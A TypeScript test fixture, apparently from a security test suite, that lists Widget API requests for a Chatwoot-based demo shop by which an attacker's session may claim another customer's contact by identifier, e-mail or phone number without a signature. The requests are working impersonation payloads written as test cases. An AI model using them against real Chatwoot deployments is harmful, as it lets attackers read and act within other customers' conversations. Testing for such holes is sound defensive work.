import type { Call } from '../../demo-store/chatwoot/testing/open-shop.ts';

/** What an attacker knows about somebody: who they are in the shop, and how to reach them. */
export interface Person {
  identifier: string;
  email: string;
  phone_number: string;
}

let people = 0;
export function newPerson(): Person {
  people += 1;
  const number = 10_000 + people;
  return { identifier: `customer-${number}`, email: `p${number}@mail.example`, phone_number: `+3519222${number}` };
}

export interface Attacker {
  /** Of Chatwoot's Widget API, with the attacker's own session. */
  call: Call;
  /** The id of a message in their conversation that asks for an address. */
  question(): Promise<number>;
}

export type Attack = [name: string, run: (attacker: Attacker, victim: Person) => Promise<unknown>];

/** Every way in which a session becomes the contact that it names, without a signature. */
export const attacks: Attack[] = [
  ['PATCH /contact by identifier', ({ call }, { identifier }) => call('PATCH', '/contact', { identifier })],
  ['PATCH /contact by e-mail', ({ call }, { email }) => call('PATCH', '/contact', { email })],
  ['PATCH /contact by phone', ({ call }, { phone_number }) => call('PATCH', '/contact', { phone_number })],
  ['POST /conversations by e-mail', ({ call }, { email }) => call('POST', '/conversations', greetingFrom({ email }))],
  [
    'POST /conversations by phone',
    ({ call }, { phone_number }) => call('POST', '/conversations', greetingFrom({ phone_number })),
  ],
  [
    'PATCH /messages/:id by e-mail',
    async ({ call, question }, { email }) => call('PATCH', `/messages/${await question()}`, { contact: { email } }),
  ],
];

/** For visitors whom nobody knows yet: without an identifier, attributes go by unchecked, and take the address along. */
export const unsignedSetUser: Attack = [
  'PATCH /contact/set_user by e-mail, without a hash',
  ({ call }, { email }) => call('PATCH', '/contact/set_user', { email, custom_attributes: { any: 'thing' } }),
];

function greetingFrom(contact: object) {
  return { contact, message: { content: 'It is me' } };
}
